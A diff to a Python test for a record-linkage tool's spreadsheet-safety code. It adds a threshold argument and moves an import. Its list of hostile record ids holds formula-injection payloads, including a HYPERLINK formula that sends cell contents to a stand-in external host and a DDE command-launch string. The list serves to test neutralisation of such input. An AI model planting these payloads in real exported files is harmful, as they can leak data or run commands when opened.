@@ -10,9 +10,9 @@ import pandas as pd
 import pytest
 
 from evaluation.metrics import read_truth
-from evaluation.review import TEXT_COLUMNS
 from linkage.cli import main
 from linkage.excel_safe import FORMULA_START, neutralise, restore
+from linkage.report.review import TEXT_COLUMNS
 
 #: Record ids as a hostile or careless source might send them.
 HOSTILE_IDS = ['=HYPERLINK("http://x.example/?a"&A1,"open")', "+cmd|' /C calc'!A0",
@@ -39,9 +39,10 @@ def hostile_run(generated, first_run, tmp_path_factory):
     wave["record_id"] = wave["record_id"].replace(renamed)
     wave.to_csv(folder / "wave.csv", index=False)
     out = folder / "run"
+    # at 0.7 the review's lowest band starts below weight 0: a label starting with "-"
     with pytest.raises(SystemExit) as info:
         main(["dedupe", str(folder / "wave.csv"), "--out", str(out), "--model",
-              str(first_run[0] / "model.json")])
+              str(first_run[0] / "model.json"), "--threshold", "0.7"])
     assert info.value.code == 0
     return out, {new: old for old, new in renamed.items()}
 
